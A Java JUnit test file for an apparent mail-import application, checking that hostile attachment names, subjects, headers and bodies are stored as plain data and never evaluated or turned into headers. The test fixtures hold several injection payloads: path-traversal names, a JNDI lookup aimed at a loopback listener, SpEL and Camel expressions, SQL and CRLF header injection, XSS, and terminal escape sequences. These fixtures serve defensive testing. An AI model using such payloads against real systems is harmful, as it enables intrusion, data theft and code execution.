package org.mailroom;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Enumeration;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.mailroom.account.ImportResult;
import org.mailroom.command.MailroomCommand;
import org.mailroom.demo.DemoAttachment;
import org.mailroom.demo.DemoMail;
import org.mailroom.demo.DemoMailbox;
import org.mailroom.demo.DemoMessage;
import org.mailroom.demo.DemoTenant;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

/**
 * What a mail says is data: nothing of it is evaluated, leaves its folder, becomes a header or
 * reaches a log as it is, and nothing is lost.
 */
@ExtendWith(OutputCaptureExtension.class)
class HostileMailTest {

  private static final List<String> NAMES =
      List.of(
          "../../etc/passwd",
          "..\\..\\windows\\system32\\x",
          "C:\\x",
          "/etc/shadow",
          "CON",
          "nul.txt",
          "COM1.log",
          "a\u0000b\u0007\u001b[31m.txt",
          "x".repeat(300) + ".pdf",
          "report.pdf",
          "report.pdf",
          "REPORT.PDF",
          "...",
          " . leading",
          "trailing . . ",
          "",
          "a\u202Egpj.exe",
          "\uD83D",
          "${camelContext.stop}",
          "~/.ssh/authorized_keys",
          "%2e%2e%2fx",
          "a\r\nb: c",
          "message.json",
          "file:x?delete=true");

  @TempDir private Path folder;

  private final DemoTenant tenant = DemoTenant.start();
  private final DemoMailbox mailbox = tenant.mailbox("support@contoso.com");
  private final ObjectMapper json = new ObjectMapper();

  @AfterEach
  void stop() {
    tenant.close();
  }

  private static String[] everywhere(String... more) {
    List<String> settings =
        new ArrayList<>(
            List.of(
                "--mailroom.accounts.support.deliver-to=database,file,queue",
                "--mailroom.accounts.support.content=both"));
    settings.addAll(List.of(more));
    return settings.toArray(String[]::new);
  }

  private JsonNode document(MailroomRun mailroom, DemoMessage message) throws IOException {
    return json.readTree(
        mailroom
            .database()
            .queryForObject(
                "select document from mail_message where message_id = ?",
                String.class,
                message.immutableId()));
  }

  private Set<Path> everyFileBelow(Path root) throws IOException {
    try (Stream<Path> files = Files.walk(root)) {
      return new HashSet<>(files.filter(Files::isRegularFile).toList());
    }
  }

  @Test
  void
      attachments_of_hostile_names_stay_in_their_folder_each_whole_and_the_document_tells_the_name_as_it_was()
          throws Exception {
    DemoMessage message = mailbox.deliver(DemoMail.plain(1));
    for (String name : NAMES) {
      byte[] content =
          ("content of " + message.attachments().size()).getBytes(StandardCharsets.UTF_8);
      message.attach(
          new DemoAttachment(
              "AAkALgAtt" + "x".repeat(60) + message.attachments().size(),
              "fileAttachment",
              name,
              "text/plain",
              false,
              null,
              content));
    }
    Files.createDirectories(folder.resolve("data"));
    Path secretKey = folder.resolve("data/secret-key");
    Set<Path> before = everyFileBelow(folder);
    try (MailroomRun mailroom = MailroomRun.start(tenant, folder, everywhere())) {
      assertThat(mailroom.importSupport().isComplete()).isTrue();
      JsonNode attachments = document(mailroom, message).path("attachments");
      Set<Path> locations = new HashSet<>();
      Path inside = null;
      for (int i = 0; i < NAMES.size(); i++) {
        assertThat(attachments.path(i).path("name").asText()).isEqualTo(NAMES.get(i));
        Path location = Path.of(attachments.path(i).path("location").asText());
        assertThat(Files.readString(location)).isEqualTo("content of " + i);
        assertThat(location.getFileName().toString())
            .startsWith((i + 1) + "-")
            .doesNotContain("\\", ":", "\r", "\n", "\u0000", "\u202E");
        inside = location.getParent();
        locations.add(location);
      }
      assertThat(locations).hasSize(NAMES.size());
      assertThat(locations).extracting(Path::getParent).containsOnly(inside);
      Set<Path> created = everyFileBelow(folder);
      created.removeAll(before);
      created.removeIf(
          file ->
              file.startsWith(folder.resolve("data/mail"))
                  || file.startsWith(folder.resolve("data/broker"))
                  || file.getFileName().toString().startsWith("mailroom.")
                  || file.getFileName().toString().equals("demo.pem")
                  || file.equals(secretKey));
      assertThat(created).isEmpty();
      assertThat(inside.getFileName().toString()).isEqualTo("attachments");
    }
  }

  @Test
  void subjects_headers_addresses_and_bodies_are_never_evaluated_and_never_become_headers(
      CapturedOutput output) throws Exception {
    try (ServerSocket attacker = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
      String jndi = "${jndi:ldap://127.0.0.1:" + attacker.getLocalPort() + "/x}";
      List<String> texts =
          List.of(
              "${camelContext.stop}",
              "${bean:accountSchedule.stop}",
              "#{T(java.lang.Runtime).getRuntime().exec('true')}",
              jndi,
              "{{mailroom.secret-key}}",
              "a\r\nInjected: header",
              "\u202Egnp.exe\u2066",
              "\u001b[2J\u001b[31mred\u0007",
              "'; drop table mail_message; --",
              "${header.x}${body}${exception.stacktrace}",
              "<script>alert(1)</script>",
              "half \uD83D pair",
              "nul \u0000 here");
      List<DemoMessage> messages = new ArrayList<>();
      for (String text : texts) {
        DemoMessage message = mailbox.deliver(DemoMail.plain(messages.size()));
        message.resource().put("subject", text);
        message
            .resource()
            .putObject("from")
            .putObject("emailAddress")
            .put("name", text)
            .put("address", text);
        message.resource().putArray("categories").add(text);
        message
            .resource()
            .putObject("body")
            .put("contentType", "html")
            .put(
                "content",
                text
                    + "<script>alert(1)</script><img src=\"http://127.0.0.1:"
                    + attacker.getLocalPort()
                    + "/pixel\"><img src=\"cid:a\"><img src=\"cid:a\">");
        ArrayNode headers = message.resource().putArray("internetMessageHeaders");
        for (String name :
            List.of(
                "CamelHttpUri",
                "CamelHttpMethod",
                "CamelFileName",
                "CamelJmsDestinationName",
                "CamelSqlQuery",
                "JMSReplyTo",
                "JMSExpiration",
                "_AMQ_DUPL_ID",
                "Authorization",
                "account",
                "messageId",
                "breadcrumbId",
                "Transfer-Encoding")) {
          headers.addObject().put("name", name).put("value", text);
        }
        message.attach(
            new DemoAttachment(
                "AAkALgAtt" + "y".repeat(60) + messages.size(),
                "fileAttachment",
                text,
                text,
                true,
                "a",
                "cid:a".getBytes(StandardCharsets.UTF_8)));
        messages.add(message);
      }
      try (MailroomRun mailroom = MailroomRun.start(tenant, folder, everywhere())) {
        ImportResult result = mailroom.importSupport();
        assertThat(result.isComplete()).isTrue();
        assertThat(result.imported()).isEqualTo(texts.size());
        for (int i = 0; i < texts.size(); i++) {
          JsonNode document = document(mailroom, messages.get(i));
          assertThat(document.path("subject").asText()).isEqualTo(texts.get(i));
          assertThat(document.path("from").path("address").asText()).isEqualTo(texts.get(i));
          assertThat(document.path("headers").size()).isEqualTo(13);
          assertThat(document.path("headers").path(2).path("value").asText())
              .isEqualTo(texts.get(i));
          assertThat(document.path("body").path("content").asText())
              .startsWith(texts.get(i) + "<script>");
        }
        assertThat(
                mailroom.browse(
                    message -> {
                      List<?> properties =
                          Collections.list((Enumeration<?>) message.getPropertyNames());
                      assertThat(
                              properties.stream()
                                  .map(String.class::cast)
                                  .filter(name -> !name.startsWith("JMSX")))
                          .containsExactlyInAnyOrder("account", "messageId", "_AMQ_DUPL_ID");
                      assertThat(message.getStringProperty("account")).isEqualTo("support");
                      assertThat(message.getJMSReplyTo()).isNull();
                      assertThat(message.getJMSExpiration()).isZero();
                      return message.getJMSMessageID();
                    }))
            .hasSize(texts.size());
      }
      attacker.setSoTimeout(1);
      assertThat(wasCalled(attacker)).as("nobody looked anything up").isFalse();
      assertThat(output.getAll())
          .doesNotContain("Injected: header")
          .doesNotContain("\u001b[31m")
          .doesNotContain("\u202E")
          .doesNotContain("jndi");
    }
  }

  private static boolean wasCalled(ServerSocket server) throws IOException {
    try {
      server.accept().close();
      return true;
    } catch (SocketTimeoutException nobody) {
      return false;
    }
  }

  @Test
  void the_list_of_failed_messages_shows_hostile_subjects_without_what_controls_a_terminal(
      CapturedOutput output) throws Exception {
    DemoMessage message = mailbox.deliver(DemoMail.plain(1));
    message
        .resource()
        .put("subject", "look \u001b[31mred\r\nsupport to file, 1 attempts \u202Egnp");
    List<String> settings = MailroomRun.settings(tenant, folder);
    ((com.fasterxml.jackson.databind.node.ObjectNode) message.resource().path("body"))
        .put("content", "x".repeat(2000));
    settings.addAll(List.of("--mailroom.accounts.support.max-size=1KB"));
    assertThat(
            MailroomCommand.run(new String[] {"import", "--once"}, MailroomRun.launcher(settings)))
        .isEqualTo(3);
    assertThat(MailroomCommand.run(new String[] {"failed", "list"}, MailroomRun.launcher(settings)))
        .isZero();
    assertThat(output.getOut()).contains("look \uFFFD[31mred\uFFFD\uFFFDsupport to file");
    assertThat(output.getAll()).doesNotContain("\u001b[31m").doesNotContain("\u202E");
  }

  @Test
  void null_missing_and_unknown_properties_and_types_do_no_harm() throws Exception {
    DemoMessage nulls = mailbox.deliver(DemoMail.plain(1));
    for (String name :
        List.of(
            "subject",
            "from",
            "sender",
            "toRecipients",
            "ccRecipients",
            "bccRecipients",
            "replyTo",
            "importance",
            "internetMessageId",
            "sentDateTime",
            "body",
            "categories",
            "internetMessageHeaders",
            "hasAttachments",
            "flag")) {
      nulls.resource().putNull(name);
    }
    DemoMessage missing = mailbox.deliver(DemoMail.plain(2));
    missing
        .resource()
        .remove(
            List.of(
                "subject",
                "from",
                "sender",
                "toRecipients",
                "importance",
                "internetMessageId",
                "sentDateTime",
                "body",
                "categories",
                "internetMessageHeaders",
                "hasAttachments",
                "flag"));
    DemoMessage unknown = mailbox.deliver(DemoMail.plain(3));
    unknown
        .resource()
        .put("@odata.type", "#microsoft.graph.somethingNew")
        .put("importance", "galactic");
    unknown
        .resource()
        .putArray("toRecipients")
        .add(7)
        .add("x")
        .addObject()
        .put("emailAddress", "a@b.c");
    unknown.attach(
        new DemoAttachment(
            "AAkALgAtt" + "z".repeat(60),
            "hologramAttachment",
            "cube",
            "model/x",
            false,
            null,
            new byte[0]));
    unknown.attach(
        new DemoAttachment(
            "AAkALgAtt" + "r".repeat(60),
            "referenceAttachment",
            "shared",
            null,
            false,
            null,
            new byte[0]));
    try (MailroomRun mailroom = MailroomRun.start(tenant, folder, everywhere())) {
      ImportResult result = mailroom.importSupport();
      assertThat(result.isComplete()).isTrue();
      assertThat(result.imported()).isEqualTo(3);
      assertThat(document(mailroom, nulls).has("subject")).isFalse();
      assertThat(document(mailroom, missing).has("from")).isFalse();
      assertThat(document(mailroom, unknown).path("importance").asText()).isEqualTo("galactic");
      JsonNode attachments = document(mailroom, unknown).path("attachments");
      assertThat(attachments).hasSize(2);
      assertThat(attachments.path(0).path("name").asText()).isEqualTo("cube");
      assertThat(attachments.path(0).has("location")).isFalse();
      assertThat(attachments.path(1).path("kind").asText()).isEqualTo("reference");
    }
    assertThat(mailbox.unread()).isZero();
  }
}
